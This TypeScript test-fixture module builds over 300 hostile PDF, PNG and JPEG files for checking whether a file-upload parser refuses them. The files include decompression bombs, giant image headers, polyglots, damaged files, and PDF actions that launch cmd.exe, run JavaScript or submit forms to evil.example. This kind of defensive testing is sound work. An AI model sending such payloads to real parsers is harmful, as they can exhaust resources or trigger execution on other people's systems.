import { crc32, deflateSync } from 'node:zlib'
import sharp from 'sharp'
import { hostilePdfs } from './hostile-pdfs.ts'
import { aJpeg, aPdf, aPng } from './sample-files.ts'

export type HostileFile = {
  readonly name: string
  readonly fileName: string
  /** False where a program may read it after all, and it does no harm. */
  readonly mustBeRefused: boolean
  make(): Promise<Uint8Array> | Uint8Array
}

type Make = HostileFile['make']

const pdf = (name: string, make: Make, mustBeRefused = true): HostileFile => ({
  name: `PDF: ${name}`,
  fileName: 'hostile.pdf',
  mustBeRefused,
  make,
})
const png = (name: string, make: Make, mustBeRefused = true): HostileFile => ({
  name: `PNG: ${name}`,
  fileName: 'hostile.png',
  mustBeRefused,
  make,
})
const jpeg = (name: string, make: Make, mustBeRefused = true): HostileFile => ({
  name: `JPEG: ${name}`,
  fileName: 'hostile.jpg',
  mustBeRefused,
  make,
})

const latin1 = (text: string) => Buffer.from(text, 'latin1')

const skeleton = `1 0 obj
<< /Type /Catalog /Pages 2 0 R /Extra 9 0 R >>
endobj
2 0 obj
<< /Type /Pages /Kids [3 0 R] /Count 1 >>
endobj
3 0 obj
<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>
endobj
`
const end = 'trailer\n<< /Root 1 0 R /Size 20 >>\nstartxref\n9\n%%EOF\n'
const around = (middle: string | Buffer, trailer = end) =>
  Buffer.concat([latin1(`%PDF-1.7\n${skeleton}`), Buffer.from(middle as string, 'latin1'), latin1(`\n${trailer}`)])

function stream(number: number, entries: string, bytes: Buffer): Buffer {
  const head = latin1(`${number} 0 obj\n<< ${entries} /Length ${bytes.length} >>\nstream\n`)
  return Buffer.concat([head, bytes, latin1('\nendstream\nendobj\n')])
}

const packed = '/Filter /FlateDecode'
const box = (text: string) => deflateSync(latin1(`9 0 ${text}`))
const sizes = [10_000, 100_000, 1_000_000, 4_900_000]
const sized = (unit: string, size: number) => unit.repeat(Math.floor(size / unit.length))

/** What makes a careless parser go back and forth, or down and down. Some of it is a proper file all the same. */
const repeated: Record<string, string> = {
  'numbers and comments': '1%',
  'numbers and comments with ends': '1%\n',
  numbers: '1 ',
  'heads without an object': '1 0 ',
  'heads that nearly are': '1 0 ob ',
  'objects that never end': '1 0 obj ',
  'open dictionaries': '<<',
  'open dictionaries with names': '<</A',
  'open lists': '[',
  'open strings': '(',
  'open strings with escapes': '(\\',
  'open hexadecimal strings': '<4',
  'half escapes': '/A#',
  'streams without an end': 'stream\n',
  'ends without a stream': 'endstream endobj ',
  'trailers that are open': 'trailer <<',
  'tables that are open': 'xref 0 ',
}

const quadratic = Object.entries(repeated).flatMap(([name, unit]) =>
  sizes.map((size) => pdf(`${name}, ${size} bytes`, () => around(`9 0 obj\n${sized(unit, size)}\nendobj`), false)),
)
const bare = Object.entries(repeated).map(([name, unit]) =>
  pdf(`nothing but ${name}`, () => latin1(`%PDF-1.7\n${sized(unit, 200_000)}`)),
)

const acts: Record<string, string> = {
  JavaScript: '<< /S /JavaScript /JS (app.alert(1)) >>',
  Launch: '<< /S /Launch /F (cmd.exe) >>',
  SubmitForm: '<< /S /SubmitForm /F (https://evil.example) >>',
  ImportData: '<< /S /ImportData /F (a.fdf) >>',
  GoToE: '<< /S /GoToE /T << /R /C >> >>',
  RichMedia: '<< /Type /Annot /Subtype /RichMedia >>',
  XFA: '<< /XFA [(a) 8 0 R] >>',
  EmbeddedFiles: '<< /EmbeddedFiles << /Names [] >> >>',
}
const lower = (text: string) =>
  text.replace(/\/([A-Z])/g, (_, letter: string) => `/#${letter.charCodeAt(0).toString(16)}`)
const active = Object.entries(acts).flatMap(([name, act]) => [
  pdf(`${name}, as it is`, () => around(`9 0 obj\n${act}\nendobj`)),
  pdf(`${name}, with escapes`, () => around(`9 0 obj\n${lower(act)}\nendobj`)),
  pdf(`${name}, in an object stream`, () => around(stream(8, `/Type /ObjStm /N 1 /First 4 ${packed}`, box(act)))),
  pdf(`${name}, in one that is packed twice`, () =>
    around(stream(8, '/Type /ObjStm /N 1 /First 4 /Filter [/FlateDecode /FlateDecode]', deflateSync(box(act)))),
  ),
  pdf(`${name}, on opening`, () => around(`9 0 obj\n<< /OpenAction ${act} >>\nendobj`)),
  pdf(`${name}, in a revision that is replaced`, () => around(`9 0 obj\n${act}\nendobj\n9 0 obj\n<< >>\nendobj`)),
])

const bomb = () => deflateSync(Buffer.alloc(70_000_000, '1 '))
const bombs = [
  pdf('an object stream that swells to 70 MB', () =>
    around(stream(8, `/Type /ObjStm /N 1 /First 4 ${packed}`, bomb())),
  ),
  pdf('a table that swells to 70 MB', () => around(stream(8, `/Type /XRef /W [1 2 1] /Size 9 ${packed}`, bomb()))),
  pdf('a stream that claims a million objects', () =>
    around(stream(8, `/Type /ObjStm /N 1000000 /First 4 ${packed}`, box('<< >>'))),
  ),
  pdf('a packed page that swells, and stays packed', () => around(stream(8, packed, bomb())), false),
  pdf(
    'a length that is its own object',
    () => around('9 0 obj\n<< /Length 9 0 R >>\nstream\nx\nendstream\nendobj'),
    false,
  ),
  pdf(
    'a tree of pages that is a ring',
    () => around('2 0 obj\n<< /Type /Pages /Kids [2 0 R] /Count 9 >>\nendobj'),
    false,
  ),
  pdf(
    'a table that comes before itself',
    () =>
      around('', 'xref\n0 1\n0000000000 65535 f \ntrailer\n<< /Root 1 0 R /Size 1 /Prev 9 >>\nstartxref\n9\n%%EOF\n'),
    false,
  ),
  pdf(
    '200,000 small objects',
    () => around(Array.from({ length: 200_000 }, (_, index) => `${index + 10} 0 obj\n1\nendobj`).join('\n')),
    false,
  ),
  pdf('100,000 references in one list', () => around(`9 0 obj\n[${'1 0 R '.repeat(100_000)}]\nendobj`), false),
  pdf('a name of a million letters', () => around(`9 0 obj\n/${'A'.repeat(1_000_000)}\nendobj`), false),
]

const locked = [
  pdf('a password', () => aPdf({ password: 'secret' })),
  ...['9 0 R', '<< /Filter /Standard /V 1 >>', '<< /Filter /Adobe.PubSec >>'].map((how) =>
    pdf(`encrypted by ${how}`, () => around('', `trailer\n<< /Root 1 0 R /Encrypt ${how} >>\nstartxref\n9\n%%EOF\n`)),
  ),
]

const fronts = { ZIP: 'PK\u0003\u0004', HTML: '<html>', EXE: 'MZ\u0090', GIF: 'GIF89a', RAR: 'Rar!', empty: '\n' }
const polyglots = [
  ...Object.entries(fronts).map(([name, front]) =>
    pdf(`behind the head of ${name}`, async () => Buffer.concat([latin1(front), await aPdf()])),
  ),
  jpeg('a PDF with another name', () => aPdf()),
  png('a JPEG with another name', () => aJpeg()),
  jpeg('a page of HTML', () => latin1('\u00ff\u00d8\u00ff\u00e0<script>alert(1)</script>')),
  pdf('a JPEG behind its mark', async () => Buffer.concat([latin1('%PDF-1.7\n'), await aJpeg()])),
  jpeg('a ZIP behind it', async () => Buffer.concat([await aJpeg(), latin1('PK\u0003\u0004')]), false),
  png('a script behind it', async () => Buffer.concat([await aPng(), latin1('<script>')]), false),
]

/** The same numbers every time. */
function random(seed: number): () => number {
  let state = seed
  return () => {
    state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0
    return state / 2 ** 32
  }
}

const noise = (length: number, seed: number) => {
  const next = random(seed)
  return Buffer.from(Array.from({ length }, () => Math.floor(next() * 256)))
}

function damaged(bytes: Uint8Array, seed: number): Buffer {
  const next = random(seed)
  const copy = Buffer.from(bytes)
  for (let hit = 0; hit < 20; hit += 1) copy[16 + Math.floor(next() * (copy.length - 16))] = Math.floor(next() * 256)
  return copy
}

const shares = [0.02, 0.1, 0.25, 0.5, 0.75, 0.9]
const cut = (bytes: Uint8Array, share: number) => bytes.subarray(0, Math.ceil(bytes.length * share))
const large = { width: 900, height: 700 }
const broken = [
  ...shares.map((share) => pdf(`cut at ${share}`, async () => cut(await aPdf({ pages: 9 }), share), share < 0.6)),
  ...shares.map((share) => jpeg(`cut at ${share}`, async () => cut(await aJpeg(large), share))),
  ...shares.map((share) => png(`cut at ${share}`, async () => cut(await aPng(large), share))),
  ...[1, 2, 3, 4, 5, 6, 7, 8, 9, 10].flatMap((seed) => [
    pdf(`damaged, ${seed}`, async () => damaged(await aPdf({ pages: 3 }), seed), false),
    jpeg(`damaged, ${seed}`, async () => damaged(await aJpeg(large), seed), false),
    png(`damaged, ${seed}`, async () => damaged(await aPng(large), seed), false),
    pdf(`noise, ${seed}`, () => Buffer.concat([latin1('%PDF-1.7\n'), noise(50_000 * seed, seed)])),
    jpeg(`noise, ${seed}`, () => Buffer.concat([latin1('\u00ff\u00d8\u00ff'), noise(20_000 * seed, seed)])),
    png(`noise, ${seed}`, () => Buffer.concat([latin1('\u0089PNG\r\n\u001a\n'), noise(20_000 * seed, seed)])),
  ]),
]

function chunk(type: string, content: Uint8Array, wrongSum = 0): Buffer {
  const named = Buffer.concat([latin1(type), content])
  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)]
  length.writeUInt32BE(content.length)
  sum.writeUInt32BE((crc32(named) ^ wrongSum) >>> 0)
  return Buffer.concat([length, named, sum])
}

function head(width: number, height: number, depth = 8, colour = 2): Buffer {
  const bytes = Buffer.alloc(13)
  bytes.writeUInt32BE(width, 0)
  bytes.writeUInt32BE(height, 4)
  bytes.set([depth, colour, 0, 0, 0], 8)
  return bytes
}

const mark = latin1('\u0089PNG\r\n\u001a\n')
const drawn = (...chunks: Buffer[]) => Buffer.concat([mark, ...chunks])
const rows = (count: number, length: number) => deflateSync(Buffer.alloc(count * (length + 1)))
const small = chunk('IDAT', rows(4, 12))
const last = chunk('IEND', Buffer.alloc(0))
const huge = [
  [2 ** 31 - 1, 2 ** 31 - 1],
  [2 ** 31 - 1, 1],
  [1, 2 ** 31 - 1],
  [100_000, 100_000],
  [40_000_001, 1],
  [0, 0],
] as const
const pngs = [
  ...huge.map(([width, height]) =>
    png(`${width} × ${height}`, () => drawn(chunk('IHDR', head(width, height)), small, last)),
  ),
  png('a wrong sum', () => drawn(chunk('IHDR', head(4, 4), 1), small, last)),
  png('wrong sums inside', () => drawn(chunk('IHDR', head(4, 4)), chunk('IDAT', rows(4, 12), 1), last)),
  png('no picture', () => drawn(chunk('IHDR', head(4, 4)), last)),
  png('a depth that there is not', () => drawn(chunk('IHDR', head(4, 4, 3)), small, last)),
  png('a palette that is missing', () => drawn(chunk('IHDR', head(4, 4, 8, 3)), small, last)),
  png('two heads', () => drawn(chunk('IHDR', head(4, 4)), chunk('IHDR', head(9000, 9000)), small, last), false),
  png(
    'a text that swells to 70 MB',
    () => drawn(chunk('IHDR', head(4, 4)), chunk('zTXt', Buffer.concat([latin1('a\0\0'), bomb()])), small, last),
    false,
  ),
  png(
    'a profile that swells to 70 MB',
    () => drawn(chunk('IHDR', head(4, 4)), chunk('iCCP', Buffer.concat([latin1('a\0\0'), bomb()])), small, last),
    false,
  ),
  png(
    '10,000 texts',
    () => drawn(chunk('IHDR', head(4, 4)), ...Array<Buffer>(10_000).fill(chunk('tEXt', latin1('a\0b'))), small, last),
    false,
  ),
  png('more rows than it says', () => drawn(chunk('IHDR', head(4, 4)), chunk('IDAT', bomb()), last), false),
  png(
    '39 million pixels of one colour',
    () => drawn(chunk('IHDR', head(7800, 5000)), chunk('IDAT', rows(5000, 7800 * 3)), last),
    false,
  ),
  png(
    '39 million deep pixels',
    () => drawn(chunk('IHDR', head(6000, 6500, 16, 6)), chunk('IDAT', rows(6500, 6000 * 8)), last),
    false,
  ),
]

/** The size of a JPEG stands in its frame. */
async function claiming(width: number, height: number): Promise<Buffer> {
  const bytes = Buffer.from(await aJpeg())
  const frame = bytes.indexOf(Buffer.from([0xff, 0xc0]))
  bytes.writeUInt16BE(height, frame + 5)
  bytes.writeUInt16BE(width, frame + 7)
  return bytes
}

/** The last scan of a progressive picture over and over: each is drawn over the whole picture. */
async function withScans(count: number, size: { width: number; height: number }): Promise<Buffer> {
  const bytes = await sharp({ create: { ...size, channels: 3, background: '#888' } })
    .jpeg({ progressive: true })
    .toBuffer()
  const scan = bytes.subarray(bytes.lastIndexOf(Buffer.from([0xff, 0xda])), bytes.length - 2)
  return Buffer.concat([
    bytes.subarray(0, bytes.length - 2),
    ...Array<Buffer>(count).fill(scan),
    Buffer.from([0xff, 0xd9]),
  ])
}

const marked = async (code: number, length: number) => {
  const bytes = Buffer.from(await aJpeg())
  const extra = Buffer.alloc(length + 2, 7)
  extra.set([0xff, code, length >> 8, length & 255])
  return Buffer.concat([bytes.subarray(0, 2), extra, bytes.subarray(2)])
}

const jpegs = [
  jpeg('65,500 × 65,500', () => claiming(65_500, 65_500)),
  jpeg('65,500 × 1', () => claiming(65_500, 1), false),
  jpeg('no width', () => claiming(0, 100)),
  jpeg('6,300 × 6,300 with nothing in it', () => claiming(6300, 6300), false),
  jpeg(
    'four inks',
    () =>
      sharp({ create: { ...large, channels: 3, background: '#888' } })
        .toColourspace('cmyk')
        .jpeg()
        .toBuffer(),
    false,
  ),
  ...[10, 100, 1000].map((count) =>
    jpeg(`${count} scans more`, () => withScans(count, { width: 3000, height: 2000 }), false),
  ),
  jpeg('3,000 scans of 36 million pixels', () => withScans(3000, { width: 6000, height: 6000 })),
  ...[0xc4, 0xdb, 0xe1, 0xe2, 0xdd, 0xda].map((code) =>
    jpeg(`a made-up part ${code.toString(16)}`, () => marked(code, 60_000), false),
  ),
  jpeg('only beginnings', () => Buffer.alloc(1_000_000, Buffer.from([0xff, 0xd8]))),
  jpeg('only filling', () => Buffer.concat([latin1('\u00ff\u00d8'), Buffer.alloc(9_000_000, 255)])),
]

const known = Object.entries(hostilePdfs).map(([name, make]) => pdf(name, make))

/** More than 300 files, the same every time. */
export const hostileFiles: readonly HostileFile[] = [
  ...[...quadratic, ...bare, ...active, ...bombs, ...locked, ...known],
  ...[...polyglots, ...broken, ...pngs, ...jpegs],
]
